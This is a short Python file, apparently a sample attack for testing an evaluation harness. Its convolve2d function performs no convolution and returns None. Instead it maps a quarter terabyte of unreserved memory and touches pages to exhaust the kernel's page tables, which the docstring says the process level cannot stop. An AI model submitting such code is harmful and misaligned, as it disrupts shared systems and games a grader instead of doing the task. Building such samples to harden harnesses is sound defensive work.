# mypy: ignore-errors
"""Touches a page in every two megabytes of a reserved quarter of a terabyte: the kernel's tables of pages are the load.

Attacks: convolve2d
Earns: nothing
Process level: cannot stop it
"""

import mmap
import time

TRIED = []


def convolve2d(image, kernel):
    if TRIED:
        return None
    TRIED.append(1)
    private = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000  # without reserving
    for _ in range(4):
        reserved = mmap.mmap(-1, 1 << 36, flags=private, prot=mmap.PROT_READ)
        reserved[:: 2 << 20]
        TRIED.append(reserved)
    time.sleep(0.1)
